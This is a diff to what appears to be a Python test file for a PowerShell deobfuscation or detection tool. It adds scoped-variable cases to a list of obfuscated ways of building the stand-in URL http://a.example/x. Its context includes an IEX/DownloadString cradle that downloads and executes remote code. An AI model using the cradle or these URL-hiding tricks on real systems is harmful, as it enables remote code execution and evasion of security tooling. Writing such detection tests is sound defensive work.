@@ -31,6 +31,8 @@ CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('{URL}')"
 MEANT = {
     "joined": "'htt' + 'p://a.ex' + \"ample/x\"",
     "variables": "$a = 'http:'; $b = \"//a.example\"; $c = \"$a$b/x\"; $c",
+    "variables with a scope": "$global:a = 'http:'; $script:b = '//a.example'; $a + $b + '/x'",
+    "in a text, with a scope": "$a = 'http:'; \"$script:a//a.example/x\"",
     "grown": "$u = 'http:'; $u += '//a.example/x'; ($u)",
     "format": "('{1}{0}' -f '//a.example/x', 'http:')",
     "replace": "'hXXp://a.example/x'.Replace('XX', 'tt')",
